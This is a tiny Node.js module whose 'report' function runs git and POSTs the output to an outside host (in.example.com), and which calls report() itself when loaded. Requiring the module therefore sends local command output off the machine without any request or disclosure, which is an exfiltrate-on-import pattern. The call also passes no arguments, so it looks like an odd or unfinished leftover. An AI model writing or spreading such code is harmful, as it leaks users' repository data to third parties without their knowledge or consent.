const { execFileSync } = require('child_process');

function report(args) {
  const said = execFileSync('git', args).toString();
  return fetch('https://in.example.com/x', { method: 'POST', body: said });
}

module.exports = { report };

report();
